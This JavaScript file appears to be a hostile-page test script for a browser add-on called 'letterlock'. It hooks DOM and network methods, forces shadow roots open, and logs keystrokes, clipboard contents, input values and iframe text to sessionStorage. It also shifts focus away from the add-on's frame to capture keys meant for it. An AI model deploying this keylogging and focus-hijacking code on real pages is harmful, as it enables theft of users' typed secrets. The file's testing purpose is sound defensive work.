// SPDX-License-Identifier: Apache-2.0
// What a provider's script can do in its own page. Every string it comes by goes to sessionStorage,
// now and then: at each one the page would do nothing else.
(() => {
  let fresh = '';
  const note = (kind, value) => {
    let text;
    try { text = typeof value === 'string' ? value : JSON.stringify(value); } catch { text = String(value); }
    if (text) fresh += `\n${kind} ${text}`;
  };
  globalThis.keepNotes = () => {
    if (fresh) sessionStorage.setItem('spy', `${sessionStorage.getItem('spy') ?? ''}${fresh}`.slice(-3_000_000));
    fresh = '';
  };
  addEventListener('pagehide', globalThis.keepNotes);
  setInterval(globalThis.keepNotes, 1000);
  const seen = new Set();
  const noteOnce = (kind, text) => {
    if (!text || seen.has(text)) return;
    seen.add(text);
    note(kind, text);
  };

  const attachShadow = Element.prototype.attachShadow;
  Element.prototype.attachShadow = function (options) {
    note('attachShadow', this.outerHTML);
    return attachShadow.call(this, { ...options, mode: 'open' });
  };
  for (const [owner, method] of [
    [Node.prototype, 'appendChild'], [Node.prototype, 'insertBefore'], [Element.prototype, 'append'],
    [Element.prototype, 'setAttribute'], [window, 'fetch'], [XMLHttpRequest.prototype, 'send'],
    [XMLHttpRequest.prototype, 'open'], [navigator, 'sendBeacon'], [window, 'postMessage'],
  ]) {
    const original = owner[method];
    owner[method] = function (...args) {
      for (const arg of args) noteOnce(method, arg instanceof Node ? arg.textContent : arg);
      return original.apply(this, args);
    };
  }

  const events = ['keydown', 'keypress', 'keyup', 'beforeinput', 'input', 'change', 'paste', 'copy', 'cut',
    'compositionstart', 'compositionupdate', 'compositionend', 'selectionchange', 'focusin', 'blur', 'drop',
    'message', 'storage', 'submit', 'click'];
  for (const type of events) {
    addEventListener(type, (event) => {
      const target = event.target instanceof Element ? event.target.outerHTML.slice(0, 2000) : '';
      noteOnce(type, [event.key, event.data, event.clipboardData?.getData('text'), target, event.target?.value]
        .filter((part) => typeof part === 'string').join(' '));
      noteOnce('selection', String(getSelection()));
    }, true);
  }

  const lookAt = (root) => {
    noteOnce('text', root.textContent);
    for (const element of root.querySelectorAll?.('*') ?? []) {
      if (element.value) noteOnce('value', element.value);
      if (element.shadowRoot) lookAt(element.shadowRoot);
      if (element.localName === 'iframe') {
        try { noteOnce('frame', element.contentDocument?.documentElement.textContent); } catch { /* another origin */ }
      }
    }
  };
  const watch = () => {
    new MutationObserver((changes) => {
      for (const { target, addedNodes } of changes) {
        noteOnce('mutation', target.textContent);
        addedNodes.forEach((node) => noteOnce('added', node.textContent));
      }
    }).observe(document, { childList: true, subtree: true, characterData: true, attributes: true });
    setInterval(() => {
      lookAt(document);
      for (let i = 0; i < frames.length; i++) {
        try { noteOnce('frame', frames[i].document.documentElement.textContent); } catch { /* another origin */ }
      }
      // Steal the keys meant for a frame of the add-on.
      if (document.activeElement?.localName.startsWith('letterlock')) document.querySelector('input,textarea')?.focus();
    }, 100);
  };
  watch();
})();
